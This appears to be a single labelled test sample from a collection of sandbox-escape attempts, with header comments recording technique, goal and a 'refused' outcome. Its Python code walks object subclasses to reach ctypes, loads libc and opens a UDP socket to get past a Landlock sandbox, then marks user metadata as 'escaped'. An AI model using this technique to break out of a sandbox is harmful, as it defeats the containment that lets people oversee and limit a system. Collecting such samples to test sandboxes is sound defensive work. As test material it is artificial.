# origin: facts 5.2
# technique: a UDP socket, which Landlock does not stop
# goal: outside
# outcome: refused:underscore-attribute
# kernel: POLICY_VIOLATION
def find_ctypes():
    for kind in object.__subclasses__():
        if kind.__name__ == "CDLL" and kind.__module__ == "ctypes":
            return kind.__init__.__globals__


def on_execute_post_login(event, api):
    ctypes = find_ctypes()
    libc = ctypes["CDLL"](None)
    if libc.socket(2, 2, 0) != -1:
        api.user.set_app_metadata("escaped", "it was done")
